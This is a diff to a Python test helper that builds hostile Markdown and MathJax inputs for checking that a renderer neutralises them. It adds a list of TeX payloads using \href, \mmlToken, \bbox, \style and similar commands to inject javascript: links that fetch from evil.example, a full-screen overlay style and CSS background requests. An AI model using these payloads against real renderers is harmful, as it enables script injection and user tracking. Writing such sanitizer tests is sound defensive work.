@@ -212,11 +212,35 @@ def hostile_markup(prefix: str) -> str:
     )
 
 
+def hostile_math(prefix: str) -> list[str]:
+    """TeX that MathJax, as it comes, turns into a link, a style or a request: every way we know
+    for math to set an ``href`` or ``style`` attribute or a background. (Their script requests
+    http://evil.example/<what> only: TeX would read the underscores of window.__pwned.)"""
+    covering = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999"
+    fetch = f"url(http://evil.example/{prefix}"
+
+    def js(what: str) -> str:
+        return f"fetch('http://evil.example/{prefix}-{what}')"
+
+    return [
+        f"$\\href{{javascript:{js('mathjax-href')}}}{{math link}}$",
+        f'$\\mmlToken{{mi}}[href="javascript:{js("mmltoken")}" style="{covering}"]{{x}}$',
+        f'$\\mmlToken{{mo}}[mathbackground="{fetch}-mathbackground.png)"]{{+}}$',
+        f"$\\bbox[background-image:{fetch}-bbox.png)]{{y}}$",
+        f"$\\style{{background:{fetch}-style.png)}}{{z}}$",
+        f"$\\class{{jp-Cell}}{{w}} \\cssId{{{prefix}-css-id}}{{v}}$",
+        f"$\\require{{html}}\\href{{javascript:{js('required-href')}}}{{t}}$",
+        f"$\\color{{{fetch}-color)}}{{u}}$",
+        f'$\\def\\again{{\\mmlToken{{mi}}[href="javascript:{js("macro")}"]{{q}}}}\\again$',
+        f"$\\texttip{{tip}}{{{js('texttip')}}} \\unicode{{x41}}$",
+    ]
+
+
 HOSTILE_MARKDOWN = (
     "My answer, with math that must still render: $h_t = \\tanh(W h_{{t-1}} + U x_t)$.\n\n"
     "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
     "[md link](javascript:{md_link}) ![md image](http://evil.example/{prefix}-md-image.png)\n\n"
-    "$\\href{{javascript:{mathjax}}}{{math link}}$\n\n"
+    "{math}\n\n"
     "{html}\n"
 )
 
@@ -225,7 +249,7 @@ def hostile_markdown(prefix: str) -> str:
     return HOSTILE_MARKDOWN.format(
         prefix=prefix,
         md_link=_js(prefix + "-md-link"),
-        mathjax=_js(prefix + "-mathjax-href"),
+        math="\n\n".join(hostile_math(prefix)),
         html=hostile_markup(prefix),
     )
 
